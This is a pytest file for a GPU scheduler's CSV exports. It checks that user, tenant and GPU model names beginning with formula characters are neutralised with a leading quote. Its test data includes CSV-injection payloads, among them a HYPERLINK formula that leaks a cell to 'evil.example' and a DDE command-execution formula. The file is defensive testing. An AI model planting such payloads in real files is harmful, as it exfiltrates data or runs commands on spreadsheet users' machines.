"""CSV exports are data, never formulas (CSV injection): a cell of others' text (user, tenant
and GPU model names) that starts with = + - @, a tab or a carriage return gets a leading
single quote (OWASP), in every CSV gpupool writes (gpupool.api.csvtext): the chargeback
download of the API, which `gpupool usage --export csv` and the dashboard also use."""

from __future__ import annotations

import csv
import io

import pytest

from gpupool.api.budgets import ChargebackOut, ChargeOut, chargeback_csv
from gpupool.api.csvtext import FORMULA_STARTS, csv_text, safe_cell
from gpupool.domain import GPU, Node
from gpupool.store import NodeRepo
from tests.server.test_budgets_reservations import use

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_start_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text
    assert _read(csv_text([[text, "ok"]])) == [["'" + text, "ok"]]


def test_other_cells_are_left_as_they_are():
    text = ["lab", "a=b", "x-1", 'say "hi", twice', "line\nbreak", "cr\rinside"]
    rows = [[*text, 3, -1.5, 0.25, None], ["next"]]
    assert _read(csv_text(rows)) == [[*text, "3", "-1.5", "0.25", ""], ["next"]]
    assert safe_cell(-1) == -1 and safe_cell(True) == "True"
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_chargeback_csv_keys_are_neutralised_and_numbers_kept():
    def charge(key: str, h: float) -> ChargeOut:
        return ChargeOut(
            key=key,
            gpu_hours_allocated=h,
            gpu_hours_busy=h / 2,
            gpu_hours_measured=h,
            gpu_memory_gib_hours=1.0,
            workloads=1,
        )

    rows = [charge(k, 1.0) for k in FORMULAS]
    rep = ChargebackOut(by="user", rows=rows, total=charge("total", 7.0))
    got = _read(chargeback_csv(rep))
    assert got[0][0] == "user"
    assert [r[0] for r in got[1:-1]] == ["'" + k for k in FORMULAS]
    assert got[-1][:2] == ["total", "7.000000"] and got[1][1] == "1.000000"


def test_the_api_download_neutralises_user_and_model_names(world):
    """Names as the store holds them: a user name, and a GPU model that a node's agent
    reported (the agent's text, not validated as a name)."""
    w = world.submit(gpus=1)
    world.scheduler.run_once()
    assert world.get("admin", f"/workloads/{w['id']}").json()["state"] == "running"
    model = "=2+3"
    with world.ctx.store.write() as s:  # the node's agent now reports that model name
        NodeRepo(s).upsert(
            Node(
                "n1",
                tuple(GPU(i, f"GPU-n1-{i}", model, 81920) for i in range(4)),
                cpu_milli=64000,
                memory_mib=512000,
            )
        )
    use(world, "lab", "ann", 1.0, w["id"])
    use(world, "lab", "@SUM(A1:A9)", 2.0, "w-other")
    r = world.get("admin", "/usage/chargeback?by=model&format=csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    keys = [row[0] for row in _read(r.text)[1:]]
    assert "'=2+3" in keys and model not in keys
    r = world.get("admin", "/usage/chargeback?by=user&format=csv")
    keys = [row[0] for row in _read(r.text)[1:]]
    assert keys == ["'@SUM(A1:A9)", "ann", "total"]
